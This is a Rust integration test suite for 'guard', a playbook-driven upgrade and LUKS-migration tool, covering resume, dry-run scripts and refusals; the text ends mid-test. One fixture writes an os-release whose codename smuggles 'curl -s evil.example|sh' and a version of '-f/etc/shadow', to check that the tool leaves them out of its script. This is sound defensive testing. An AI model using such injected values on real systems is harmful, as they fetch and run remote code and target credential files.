//! `guard run` end to end with the scripted UI (answers files, no terminal):
//! conditions, already-done steps, the hard stop, resume from the journal,
//! dry-run scripts, and the LUKS walk on loop devices with its refusals.

// Tests build fixtures (loop devices, filesystems) with the real tools
// directly; the exec.rs choke point is for guard itself.
#![allow(clippy::disallowed_methods)]

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

struct Env {
    _tmp: tempfile::TempDir,
    root: PathBuf,
    store: PathBuf,
    base: PathBuf,
}

fn env() -> Env {
    let tmp = tempfile::Builder::new()
        .prefix("guard-pb")
        .tempdir()
        .unwrap();
    let base = tmp.path().to_path_buf();
    let root = base.join("root");
    std::fs::create_dir_all(root.join("etc/guard/playbooks")).unwrap();
    std::fs::write(root.join("etc/os-release"), "ID=testos\n").unwrap();
    Env {
        store: base.join("store"),
        root,
        base,
        _tmp: tmp,
    }
}

impl Env {
    fn guard(&self, args: &[&str], answers: Option<&str>) -> Output {
        self.guard_with(args, answers, |_| {})
    }
    /// As `guard`, with `setup` adjusting the command (e.g. its PATH).
    fn guard_with(
        &self,
        args: &[&str],
        answers: Option<&str>,
        setup: impl FnOnce(&mut Command),
    ) -> Output {
        let mut c = Command::new(env!("CARGO_BIN_EXE_guard"));
        setup(&mut c);
        c.arg("--root")
            .arg(&self.root)
            .arg("--store")
            .arg(&self.store);
        c.args(args);
        // The test roots are not `/`, so walking a playbook of theirs
        // needs `root-playbook = "walk"` (README): every walk here says it,
        // as an admin who walks a root's own playbook would. `untrusted`
        // leaves it out.
        let walk = args.contains(&"run") && !args.contains(&"--dry-run");
        let answers = match (answers, walk) {
            (a, false) => a.map(str::to_string),
            (Some(a), true) => Some(trusting(a)),
            (None, true) => Some(trusting("")),
        };
        if let Some(a) = answers {
            let p = self.base.join("answers.toml");
            std::fs::write(&p, a).unwrap();
            c.arg("--answers").arg(p);
        }
        c.output().unwrap()
    }
    /// As `guard`, exactly as given: no `root-playbook` answer added.
    fn untrusted(&self, args: &[&str], answers: Option<&str>) -> Output {
        let mut c = Command::new(env!("CARGO_BIN_EXE_guard"));
        c.arg("--root")
            .arg(&self.root)
            .arg("--store")
            .arg(&self.store)
            .args(args);
        if let Some(a) = answers {
            let p = self.base.join("answers.toml");
            std::fs::write(&p, a).unwrap();
            c.arg("--answers").arg(p);
        }
        c.output().unwrap()
    }
    fn journal(&self, id: &str) -> serde_json::Value {
        serde_json::from_slice(
            &std::fs::read(self.store.join(format!("journals/{id}.json"))).unwrap(),
        )
        .unwrap()
    }
}

/// `answers` (an answers file's text) with `root-playbook = "walk"` added
/// under `[answers]`, unless it answers that itself.
fn trusting(answers: &str) -> String {
    if answers.contains("root-playbook") {
        return answers.to_string();
    }
    match answers.find("[answers]\n") {
        Some(i) => {
            let at = i + "[answers]\n".len();
            format!(
                "{}root-playbook = \"walk\"\n{}",
                &answers[..at],
                &answers[at..]
            )
        }
        None => format!("{answers}\n[answers]\nroot-playbook = \"walk\"\n"),
    }
}

fn status(j: &serde_json::Value, id: &str) -> String {
    j["steps"]
        .as_array()
        .unwrap()
        .iter()
        .rev()
        .find(|s| s["id"] == id)
        .map(|s| s["status"].as_str().unwrap().to_string())
        .unwrap_or_else(|| "absent".into())
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

const WALK: &str = r#"
version = 1
id = "walk"
title = "engine test"

[[steps]]
id = "a"
title = "appends a line"
explain = "counts its runs"
when = "flag"
run = ["sh", "-c", "echo ran >> \"$1\"", "sh", "{root}/a-log"]

[[steps]]
id = "b"
title = "never: condition false"
explain = "x"
when = "flag == no"
when-text = "the flag is off"
run = ["touch", "{root}/b-ran"]

[[steps]]
id = "c"
title = "already done"
explain = "x"
done-if = { run = ["test", "-e", "{root}/c-done"] }
run = ["touch", "{root}/c-ran"]

[[steps]]
id = "d"
title = "fails until fixed"
explain = "x"
run = ["sh", "-c", "test -e \"$1\" || { echo boom-output; exit 4; }", "sh", "{root}/d-ok"]
on-failure = "create d-ok and resume"

[[steps]]
id = "e"
title = "after the failure"
explain = "x"
run = ["touch", "{root}/e-ran"]
verify = { run = ["test", "-e", "{root}/e-ran"] }
"#;

#[test]
fn conditions_done_steps_hard_stop_and_resume() {
    let e = env();
    std::fs::write(e.root.join("etc/guard/playbooks/walk.toml"), WALK).unwrap();
    std::fs::write(e.root.join("c-done"), "").unwrap();
    let ans = "[answers]\nflag = \"yes\"\n";
    let out = e.guard(&["--yes", "run", "walk"], Some(ans));
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(
        err.contains("step d (fails until fixed) failed: exit code 4"),
        "{err}"
    );
    assert!(err.contains("boom-output"), "{err}");
    assert!(
        err.contains("what to do next: create d-ok and resume"),
        "{err}"
    );
    assert!(!e.root.join("b-ran").exists(), "condition false, still ran");
    assert!(!e.root.join("c-ran").exists(), "done step ran again");
    assert!(
        !e.root.join("e-ran").exists(),
        "walk went on after a failure"
    );
    let j = e.journal("walk");
    assert_eq!(status(&j, "a"), "done");
    assert_eq!(status(&j, "b"), "skipped");
    assert_eq!(status(&j, "c"), "already-done");
    assert_eq!(status(&j, "d"), "failed");
    let d = j["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == "d")
        .unwrap();
    assert_eq!(d["commands"][0]["exit"], 4);
    assert!(d["commands"][0]["tail"]
        .as_str()
        .unwrap()
        .contains("boom-output"));
    assert!(d["started"].is_string() && d["ended"].is_string());
    assert_eq!(j["answers"]["flag"], "yes");
    assert_eq!(j["facts"]["os_id"], "testos");

    // A new run while one is unfinished is refused.
    let out = e.guard(&["--yes", "run", "walk"], Some(ans));
    assert_eq!(out.status.code(), Some(3));
    assert!(text(&out.stderr).contains("--resume"));

    // Resume never retries a failed step silently.
    std::fs::write(e.root.join("d-ok"), "").unwrap();
    let out = e.guard(&["--yes", "run", "walk", "--resume"], Some(ans));
    assert_eq!(out.status.code(), Some(3));
    assert!(
        text(&out.stderr).contains("not retried"),
        "{}",
        text(&out.stderr)
    );
    assert!(!e.root.join("e-ran").exists());

    // Told to retry, it goes on at d; a (done before) does not run again.
    let out = e.guard(
        &["--yes", "run", "walk", "--resume"],
        Some("[answers]\nflag = \"yes\"\nretry-d = \"retry\"\n"),
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(e.root.join("e-ran").exists());
    assert_eq!(
        std::fs::read_to_string(e.root.join("a-log")).unwrap(),
        "ran\n"
    );
    let j = e.journal("walk");
    assert_eq!(status(&j, "d"), "done");
    assert_eq!(status(&j, "e"), "done");
    assert!(j["finished"].is_string());
    let out = e.guard(&["--yes", "run", "walk", "--resume"], Some(ans));
    assert_eq!(
        out.status.code(),
        Some(3),
        "a finished run has nothing to resume"
    );
    // A new run keeps the finished one's journal under its start time.
    let out = e.guard(&["--yes", "run", "walk"], Some(ans));
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let kept = std::fs::read_dir(e.store.join("journals")).unwrap().count();
    assert_eq!(kept, 2);
    assert_eq!(
        std::fs::read_to_string(e.root.join("a-log")).unwrap(),
        "ran\nran\n"
    );
}

/// A relative `--store` is printed absolute in the dry run's script, as
/// the root is: a line pasted from another directory must still reach
/// the walk's store.
#[test]
fn a_dry_run_names_a_relative_store_absolutely() {
    let e = env();
    let out = Command::new(env!("CARGO_BIN_EXE_guard"))
        .current_dir(&e.base)
        .args(["--root", "root", "--store", "store"])
        .args(["run", "arch-upgrade", "--dry-run"])
        .env_remove("GUARD_ROOT")
        .env_remove("GUARD_STORE")
        .output()
        .unwrap();
    let s = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let store = e.base.join("store");
    let store = store.display();
    let guard_lines: Vec<&str> = s.lines().filter(|l| l.starts_with("guard ")).collect();
    assert!(!guard_lines.is_empty(), "{s}");
    for l in guard_lines {
        assert!(
            l.contains(&format!("--store {store} ")) || l.contains(&format!("--store '{store}' ")),
            "{l}"
        );
    }
    assert!(s.contains(&format!("#   store = {store}\n")), "{s}");
}

#[test]
fn a_variable_with_a_newline_is_refused() {
    // (not `root`: an answers file cannot set that at all)
    let e = env();
    std::fs::write(
        e.root.join("etc/guard/playbooks/nl.toml"),
        r#"
version = 1
id = "nl"
title = "a variable with a newline"

[[steps]]
id = "a"
title = "touches a file named by a variable"
explain = "x"
run = ["touch", "{root}/{name}"]
"#,
    )
    .unwrap();
    let out = e.guard(
        &["--yes", "run", "nl"],
        Some("[answers]\nname = \"a\\nb\"\n"),
    );
    assert_eq!(out.status.code(), Some(3));
    assert!(
        text(&out.stderr).contains("newline"),
        "{}",
        text(&out.stderr)
    );
    assert!(!e.root.join("a\nb").exists());
}

#[test]
fn dry_run_prints_a_reviewable_script_without_facts() {
    let e = env();
    let out = e.guard(&["run", "arch-upgrade", "--dry-run"], None);
    let s = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(s.starts_with("#!/bin/sh\n"));
    assert!(
        s.contains(
            "# only when: the keyring is stale or the dry download reported a signature failure"
        ),
        "{s}"
    );
    assert!(
        s.contains("<free_cache_mib>"),
        "unknown facts must be placeholders: {s}"
    );
    let root = e.root.display().to_string();
    assert!(
        s.contains(&format!(
            "pacman --root {root} --config {root}/etc/pacman.conf"
        )),
        "{s}"
    );
    assert!(s.contains(" -Su\n"));
    assert!(!s.contains("--noconfirm"));
    // Every step appears.
    for id in [
        "preflight",
        "snapshot",
        "probe-signatures",
        "keyring",
        "keyring-populate",
        "upgrade",
        "pacnew",
        "check",
        "reboot",
        "check-after-reboot",
    ] {
        assert!(s.contains(&format!("({id})\n")), "{id} missing: {s}");
    }
    assert!(
        !e.store.join("journals").exists(),
        "a dry run keeps no journal"
    );

    // The LUKS walk beyond what this machine can run (device-mapper).
    let out = e.guard(
        &["run", "luks-guest-move", "--dry-run"],
        Some("[answers]\nguest = \"mail\"\nlv_name = \"mailcrypt\"\n"),
    );
    let s = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(s.contains("cryptsetup luksFormat --batch-mode --verify-passphrase --type luks2 --cipher aes-xts-plain64 --key-size 512 --hash sha512 --pbkdf argon2id '<target>'"), "{s}");
    assert!(s.contains("# DESTRUCTIVE:"));
    assert!(
        s.contains("cryptsetup open --type luks2 '<target>' cr_mailcrypt"),
        "{s}"
    );
    assert!(s.contains("guard --root"), "{s}");
    // guard's own lines name the walk's store, so one pasted by hand
    // reaches it rather than the default store under --root
    let store = e.store.display().to_string();
    let guard_lines: Vec<&str> = s
        .lines()
        .filter(|l| l.starts_with("guard --root"))
        .collect();
    assert!(!guard_lines.is_empty(), "{s}");
    assert!(
        guard_lines
            .iter()
            .all(|l| l.contains(&format!("--store {store} "))
                || l.contains(&format!("--store '{store}' "))),
        "{s}"
    );
    assert!(
        s.contains("vm clone mail --name mail-luks --disk-target 'vda=/dev/mapper/cr_mailcrypt'")
            || s.contains(
                "vm clone mail --name mail-luks --disk-target vda=/dev/mapper/cr_mailcrypt"
            ),
        "{s}"
    );
    assert!(s.contains("cryptsetup close cr_mailcrypt"), "{s}");
    assert!(s.contains("not in /etc/crypttab"), "{s}");

    let out = e.guard(&["playbook", "show", "leap-upgrade"], None);
    assert_eq!(out.status.code(), Some(0));
    assert!(
        text(&out.stdout).contains("zypper --root"),
        "{}",
        text(&out.stdout)
    );
    let out = e.guard(&["--json", "playbook", "list"], None);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let ids: Vec<&str> = v
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["id"].as_str().unwrap())
        .collect();
    for id in [
        "arch-upgrade",
        "leap-upgrade",
        "luks-guest-move",
        "debian-upgrade",
    ] {
        assert!(ids.contains(&id), "{ids:?}");
    }
}

/// A loop device over a sparse file; detached on drop.
struct Loop(String);
impl Loop {
    fn new(dir: &Path, name: &str, mib: u64) -> Loop {
        let f = dir.join(name);
        let file = std::fs::File::create(&f).unwrap();
        file.set_len(mib << 20).unwrap();
        let out = Command::new("losetup")
            .args(["--find", "--show"])
            .arg(&f)
            .output()
            .unwrap();
        assert!(out.status.success(), "losetup: {}", text(&out.stderr));
        Loop(text(&out.stdout).trim().to_string())
    }
}
impl Drop for Loop {
    fn drop(&mut self) {
        let _ = Command::new("losetup").args(["-d", &self.0]).output();
    }
}

fn luks_answers(e: &Env, source: &str, target: &str, confirm: bool) -> String {
    let key = e.base.join("key");
    std::fs::write(&key, "correct horse battery staple").unwrap();
    format!(
        "{}[answers]\nguest = \"mail\"\nsource = \"{source}\"\nshutdown_guest = \"no\"\ndisk_target = \"vda\"\ncreate_lv = \"no\"\nlv_name = \"guardtest\"\ntarget = \"{target}\"\nluks_pbkdf = \"pbkdf2\"\nluks_pbkdf_iterations = \"1000\"\nluks_key_file = \"{}\"\n",
        if confirm { format!("confirm = [\"luks-format:{target}\"]\n") } else { String::new() },
        key.display()
    )
}

fn is_luks(dev: &str) -> bool {
    Command::new("cryptsetup")
        .args(["isLuks", dev])
        .status()
        .unwrap()
        .success()
}

#[test]
fn luks_walk_on_loop_devices() {
    let e = env();
    let src = Loop::new(&e.base, "src.img", 8);
    let dst = Loop::new(&e.base, "dst.img", 48);

    // Without a terminal and without `confirm` in the answers: refused, even
    // with --yes.
    let out = e.guard(
        &["--yes", "run", "luks-guest-move"],
        Some(&luks_answers(&e, &src.0, &dst.0, false)),
    );
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(
        err.contains("refusing destructive step luks-format"),
        "{err}"
    );
    assert!(
        err.contains(&format!("confirm = [\\\"luks-format:{}\\\"]", dst.0))
            || err.contains(&format!("luks-format:{}", dst.0)),
        "{err}"
    );
    assert!(!is_luks(&dst.0), "formatted without confirmation");
    assert_eq!(
        status(&e.journal("luks-guest-move"), "target-check"),
        "done"
    );

    // Confirmed: format, dump and header backup run for real; `cryptsetup
    // open` needs device-mapper, which this machine lacks: the walk stops
    // there with a clear message.
    let e = env();
    let out = e.guard(
        &["--yes", "run", "luks-guest-move"],
        Some(&luks_answers(&e, &src.0, &dst.0, true)),
    );
    let err = text(&out.stderr);
    assert!(is_luks(&dst.0), "{err}");
    let dump = Command::new("cryptsetup")
        .args(["luksDump", &dst.0])
        .output()
        .unwrap();
    let dump = text(&dump.stdout);
    assert!(
        dump.contains("aes-xts-plain64") && dump.contains("512 bits") && dump.contains("pbkdf2"),
        "{dump}"
    );
    let j = e.journal("luks-guest-move");
    for id in ["target-check", "luks-format", "luks-dump", "header-backup"] {
        assert_eq!(status(&j, id), "done", "{id}: {err}");
    }
    let backup = std::fs::read_dir(e.store.join("luks"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    assert!(Command::new("cryptsetup")
        .arg("luksDump")
        .arg(&backup)
        .status()
        .unwrap()
        .success());
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert_eq!(status(&j, "open"), "failed", "{err}");
    assert!(err.contains("step open"), "{err}");
    assert!(err.contains("what to do next"), "{err}");
}

#[test]
fn luks_target_refusals() {
    // Too small: source 40 MiB, target 48 MiB < 40 + 32.
    let e = env();
    let src = Loop::new(&e.base, "src.img", 40);
    let dst = Loop::new(&e.base, "dst.img", 48);
    let out = e.guard(
        &["--yes", "run", "luks-guest-move"],
        Some(&luks_answers(&e, &src.0, &dst.0, true)),
    );
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(err.contains("is too small"), "{err}");
    assert!(!is_luks(&dst.0));

    // A target carrying a filesystem.
    let e = env();
    let src = Loop::new(&e.base, "src.img", 4);
    let fs = e.base.join("fs.img");
    std::fs::File::create(&fs)
        .unwrap()
        .set_len(48 << 20)
        .unwrap();
    let ok = Command::new("mkfs.ext4")
        .args(["-q", "-F"])
        .arg(&fs)
        .status()
        .unwrap();
    assert!(ok.success());
    let out = Command::new("losetup")
        .args(["--find", "--show"])
        .arg(&fs)
        .output()
        .unwrap();
    let dst = Loop(text(&out.stdout).trim().to_string());
    let out = e.guard(
        &["--yes", "run", "luks-guest-move"],
        Some(&luks_answers(&e, &src.0, &dst.0, true)),
    );
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(err.contains("carries a ext4 signature"), "{err}");
    assert!(!is_luks(&dst.0));
    let ty = Command::new("blkid")
        .args(["-o", "value", "-s", "TYPE", &dst.0])
        .output()
        .unwrap();
    assert_eq!(
        text(&ty.stdout).trim(),
        "ext4",
        "the filesystem must survive"
    );
}

#[test]
fn a_playbook_for_another_system_is_not_walked_unasked() {
    let e = env(); // os-release says ID=testos
    let out = e.guard(&["run", "arch-upgrade"], Some("[answers]\nx = \"y\"\n"));
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(err.contains("arch-upgrade is written for arch"), "{err}");
    assert!(
        !e.store.join("journals").exists(),
        "nothing may have run: {err}"
    );
}

/// A playbook file that does not parse is set aside with its error, not a
/// wall in front of every other one: `playbook list` shows the rest and
/// names it (exit 3, as `list` does for a corrupt snapshot), and `run`
/// walks another playbook. A walk of a name the broken file may carry is
/// refused, never quietly given the built-in playbook it would override.
#[test]
fn a_broken_playbook_file_blocks_only_itself() {
    let e = env();
    let dir = e.root.join("etc/guard/playbooks");
    std::fs::write(dir.join("walk.toml"), WALK).unwrap();
    // the shape is wrong: an unknown key in a step
    std::fs::write(
        dir.join("typo.toml"),
        "version = 1\nid = \"typo\"\ntitle = \"t\"\n[[steps]]\nid = \"a\"\nbogus = 1\n",
    )
    .unwrap();
    // not even TOML, meant to override the built-in arch-upgrade
    std::fs::write(
        dir.join("my-arch.toml"),
        "version = 1\nid = \"arch-upgrade\"\ntitle = \"unclosed\n",
    )
    .unwrap();
    let out = e.guard(&["playbook", "list"], None);
    let (stdout, err) = (text(&out.stdout), text(&out.stderr));
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(
        stdout.contains("walk ") && stdout.contains("luks-guest-move"),
        "{stdout}"
    );
    assert!(
        stdout.contains("BROKEN: playbook /etc/guard/playbooks/typo.toml: unknown field `bogus`"),
        "{stdout}"
    );
    assert!(
        stdout.contains("/etc/guard/playbooks/my-arch.toml"),
        "{stdout}"
    );
    assert!(
        err.contains("2 playbook files set aside (they do not parse)"),
        "{err}"
    );
    let out = e.guard(&["--json", "playbook", "list"], None);
    assert_eq!(out.status.code(), Some(3));
    let rows: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let rows = rows.as_array().unwrap();
    assert!(rows
        .iter()
        .any(|r| r["id"] == "walk" && r["error"].is_null()));
    let bad: Vec<&serde_json::Value> = rows.iter().filter(|r| r["error"].is_string()).collect();
    assert_eq!(bad.len(), 2, "{rows:?}");
    assert!(bad
        .iter()
        .any(|r| r["id"] == "arch-upgrade" && r["source"] == "/etc/guard/playbooks/my-arch.toml"));
    // another playbook walks, with a warning naming the broken files
    let out = e.guard(
        &["--yes", "run", "walk"],
        Some("[answers]\nflag = \"yes\"\n"),
    );
    let err = text(&out.stderr);
    assert!(err.contains("typo.toml"), "{err}");
    assert!(e.root.join("a-log").exists(), "{err}");
    // the broken ones fail closed, by id or by file name
    for name in ["typo", "arch-upgrade", "my-arch"] {
        let out = e.guard(&["--yes", "run", name, "--dry-run"], None);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(3), "{name}: {err}");
        assert!(
            err.contains("fix or remove /etc/guard/playbooks/"),
            "{name}: {err}"
        );
    }
}

/// `--yes` confirms ordinary steps, not walking another system's playbook:
/// unattended, that takes `other-os = "walk"` in the answers file.
#[test]
fn yes_alone_does_not_walk_a_playbook_for_another_system() {
    let e = env(); // os-release says ID=testos
    std::fs::write(
        e.root.join("etc/guard/playbooks/elsewhere.toml"),
        r#"
version = 1
id = "elsewhere"
title = "for another system"
applies-to = ["otheros"]

[[steps]]
id = "touch"
title = "leaves a mark"
explain = "x"
run = ["touch", "{root}/ran"]
"#,
    )
    .unwrap();
    let out = e.guard(&["--yes", "run", "elsewhere"], None);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert_eq!(err.lines().count(), 1, "one clear line: {err}");
    assert!(
        err.contains("elsewhere is written for otheros; this system is \"testos\"")
            && err.contains("other-os = \"walk\""),
        "{err}"
    );
    assert!(!e.root.join("ran").exists(), "nothing may have run: {err}");
    assert!(!e.store.join("journals").exists(), "{err}");
    // an answer that is neither stop nor walk is said as it is
    let out = e.guard(
        &["--yes", "run", "elsewhere"],
        Some("[answers]\nother-os = \"yes\"\n"),
    );
    assert_eq!(out.status.code(), Some(3));
    assert!(text(&out.stderr).contains("not one of: stop, walk"));
    assert!(!e.root.join("ran").exists());
    // said explicitly, it walks
    let out = e.guard(
        &["--yes", "run", "elsewhere"],
        Some("[answers]\nother-os = \"walk\"\n"),
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(e.root.join("ran").exists());
}

#[test]
fn apt_is_refused_on_another_root() {
    let e = env();
    std::fs::write(e.root.join("etc/os-release"), "ID=debian\n").unwrap();
    // the root's sources already name the next release (this host's are
    // not what the sources step looks at)
    let list = e.root.join("etc/apt/sources.list.d/debian.list");
    std::fs::create_dir_all(list.parent().unwrap()).unwrap();
    std::fs::write(&list, "deb http://deb.debian.org/debian trixie main\n").unwrap();
    let ans = "[answers]\ntarget_codename = \"trixie\"\n";
    let out = e.guard(&["--yes", "run", "debian-upgrade"], Some(ans));
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(err.contains("apt-get cannot act on --root"), "{err}");
    let j = e.journal("debian-upgrade");
    assert_eq!(status(&j, "snapshot"), "done");
    assert_eq!(status(&j, "sources"), "already-done");
    assert_eq!(status(&j, "update"), "failed");
    let out = e.guard(&["run", "debian-upgrade", "--dry-run"], None);
    assert!(text(&out.stdout).contains("# REFUSED on this root"));
}

/// On a `--root` os-release is the guarded system's (a guest image's,
/// hostile if need be), and its codename goes into the manual command the
/// debian-upgrade walk shows to be pasted into a root shell: a codename
/// that is no os-release(5) word is left out, never shown in it.
#[test]
fn os_release_values_that_are_no_words_are_not_facts() {
    let e = env();
    std::fs::write(
        e.root.join("etc/os-release"),
        "ID=debian\nVERSION_ID=\"-f/etc/shadow\"\n\
         VERSION_CODENAME=\"bookworm /dev/null; curl -s evil.example|sh; : \"\n",
    )
    .unwrap();
    std::fs::create_dir_all(e.root.join("var/lib/dpkg")).unwrap();
    std::fs::write(e.root.join("var/lib/dpkg/status"), "").unwrap();
    let out = e.guard(&["run", "debian-upgrade", "--dry-run"], None);
    let script = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(!script.contains("curl"), "{script}");
    assert!(!script.contains("/etc/shadow"), "{script}");
    assert!(script.contains("grep -rlsw <os_codename> "), "{script}");
    assert!(script.contains("os_id = debian"), "{script}");
}

/// A stand-in for zypper: `dup` deletes /etc/pam.d/imap, as the real
/// upgrade did, and fails until ROOT/dup-fixed exists; everything else
/// succeeds. Every call is logged to ROOT/zypper.log.
const FAKE_ZYPPER: &str = r#"#!/bin/sh
root="$2"
shift 2; echo "$*" >> "$root/zypper.log"; set -- --root "$root" "$@"
case " $* " in
*" dup --download-only "*) exit 0 ;;
*" dup "*)
    rm -f "$root/etc/pam.d/imap"
    test -e "$root/dup-fixed" || { echo "Problem: halfway through"; exit 8; }
    ;;
esac
exit 0
"#;

/// Incident 1 through the shipped leap-upgrade playbook: `zypper dup` fails
/// halfway after deleting /etc/pam.d/imap; the admin runs it again (its hook
/// takes a newer `pre` snapshot, already without imap) and resumes. The
/// walk's check must still see imap vanished and its restore bring it back.
#[test]
fn a_retried_upgrade_is_checked_against_the_walks_own_snapshot() {
    let e = env();
    std::fs::write(
        e.root.join("etc/os-release"),
        "ID=opensuse-leap\nVERSION_ID=15.5\n",
    )
    .unwrap();
    std::fs::create_dir_all(e.root.join("etc/pam.d")).unwrap();
    std::fs::write(e.root.join("etc/passwd"), "root:x:0:0::/root:/bin/sh\n").unwrap();
    std::fs::write(e.root.join("etc/group"), "root:x:0:\n").unwrap();
    let imap = "auth required pam_sss.so\naccount required pam_sss.so\n";
    std::fs::write(e.root.join("etc/pam.d/imap"), imap).unwrap();
    // the repositories already follow the release variable
    leap_repos(&e.root, "$releasever");
    std::fs::write(
        e.root.join("etc/imapd.conf"),
        "sasl_pwcheck_method: saslauthd\n",
    )
    .unwrap();
    let path = fake_zypper(&e);
    let with_path = |c: &mut Command| {
        c.env("PATH", &path);
    };
    let ans = "[answers]\ntarget_release = \"15.6\"\n";

    let out = e.guard_with(&["--yes", "run", "leap-upgrade"], Some(ans), with_path);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(err.contains("step dup"), "{err}");
    assert!(!e.root.join("etc/pam.d/imap").exists());
    let walk_snapshot = e.journal("leap-upgrade")["answers"]["snapshot_id"]
        .as_str()
        .unwrap()
        .to_string();

    // The admin fixes the cause and runs zypper dup again by hand: guard's
    // zypp hook takes a `pre` snapshot first, one that lacks imap.
    std::fs::write(e.root.join("dup-fixed"), "").unwrap();
    // and the upgrade took a file that is no PAM service file: the walk's
    // PAM step is not the place to bring it back unasked
    std::fs::remove_file(e.root.join("etc/imapd.conf")).unwrap();
    let out = e.guard(&["snapshot", "--kind", "pre", "--label", "zypp hook"], None);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));

    let out = e.guard_with(
        &["--yes", "run", "leap-upgrade", "--resume"],
        Some("[answers]\ntarget_release = \"15.6\"\nretry-dup = \"retry\"\n"),
        with_path,
    );
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    let j = e.journal("leap-upgrade");
    assert_eq!(status(&j, "restore-pam"), "done", "{err}");
    assert_eq!(
        std::fs::read_to_string(e.root.join("etc/pam.d/imap"))
            .ok()
            .as_deref(),
        Some(imap),
        "the vanished PAM file was not restored: {err}"
    );
    assert!(
        err.contains(&format!("restore plan from snapshot {walk_snapshot}")),
        "{err}"
    );
    assert!(
        !e.root.join("etc/imapd.conf").exists(),
        "the PAM step restored more than PAM files: {err}"
    );
    // that file is still gone, so the last check found critical damage:
    // the last line says so, not just "finished"
    assert!(
        err.contains("playbook leap-upgrade finished, but its last check found critical damage"),
        "{err}"
    );
    // The final check, against the walk's snapshot, finds nothing missing.
    assert_eq!(j["answers"]["pam_vanished"], "no", "{err}");

    // The dry run shows which snapshot the check compares with, and that
    // the restore step puts back the PAM files alone.
    let out = e.guard(&["run", "leap-upgrade", "--dry-run"], None);
    assert!(
        text(&out.stdout).contains("restore --pam"),
        "{}",
        text(&out.stdout)
    );
    assert!(
        text(&out.stdout).contains("check --against '<snapshot_id>'")
            || text(&out.stdout).contains("check --against <snapshot_id>"),
        "{}",
        text(&out.stdout)
    );
}

/// Puts FAKE_ZYPPER first on a PATH for the walk: the PATH to give it.
fn fake_zypper(e: &Env) -> String {
    use std::os::unix::fs::PermissionsExt;
    let bin = e.base.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    std::fs::write(bin.join("zypper"), FAKE_ZYPPER).unwrap();
    std::fs::set_permissions(bin.join("zypper"), std::fs::Permissions::from_mode(0o755)).unwrap();
    format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    )
}

/// A Leap repository file, as Leap 42.3 wrote them (a fixed version in the
/// URL) or as 15.x does (`$releasever`).
fn leap_repos(root: &Path, version: &str) {
    let d = root.join("etc/zypp/repos.d");
    std::fs::create_dir_all(&d).unwrap();
    std::fs::write(
        d.join("repo-oss.repo"),
        format!(
            "[repo-oss]\nname=Main Repository\nenabled=1\nautorefresh=1\n\
             baseurl=http://download.opensuse.org/distribution/leap/{version}/repo/oss/\ntype=rpm-md\n"
        ),
    )
    .unwrap();
    std::fs::write(
        d.join("repo-update.repo"),
        format!(
            "[repo-update]\nname=Main Update Repository\nenabled=1\n\
             baseurl=http://download.opensuse.org/update/leap/{version}/oss/\n"
        ),
    )
    .unwrap();
    std::fs::write(
        d.join("packman.repo"),
        format!(
            "[packman]\nname=Packman\nenabled=1\n\
             baseurl=https://packman.inode.at/suse/openSUSE_Leap_{version}/\n"
        ),
    )
    .unwrap();
}

/// The repo switch is a manual step, which `--yes` confirms unread. With
/// repositories that still name 42.3, `zypper --releasever 15.0 dup` would
/// "upgrade" to 42.3 again and the walk would end as if it had upgraded:
/// the step's check stops the walk before zypper refreshes anything, says
/// which release is still named, and `--resume` goes on once the files are
/// fixed. Repositories that already follow `$releasever` skip the step.
#[test]
fn leap_repositories_that_name_the_old_release_stop_the_walk() {
    let e = env();
    std::fs::write(
        e.root.join("etc/os-release"),
        "NAME=\"openSUSE Leap\"\nID=opensuse-leap\nVERSION_ID=\"42.3\"\n",
    )
    .unwrap();
    leap_repos(&e.root, "42.3");
    std::fs::write(e.root.join("dup-fixed"), "").unwrap();
    let path = fake_zypper(&e);
    let with_path = |c: &mut Command| {
        c.env("PATH", &path);
    };
    let zypper_log = || std::fs::read_to_string(e.root.join("zypper.log")).unwrap_or_default();

    let ans = "[answers]\ntarget_release = \"15.0\"\n";
    let out = e.guard_with(&["--yes", "run", "leap-upgrade"], Some(ans), with_path);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(
        err.contains("step switch-repos (Switch the repositories to the target release) failed: verification failed"),
        "{err}"
    );
    assert!(
        err.contains("A repository URL still names 42.3"),
        "the advice does not name the release: {err}"
    );
    assert_eq!(status(&e.journal("leap-upgrade"), "switch-repos"), "failed");
    assert_eq!(zypper_log(), "lr -u\n", "zypper ran past the repo switch");

    // Resumed without fixing them: the same stop, nothing refreshed.
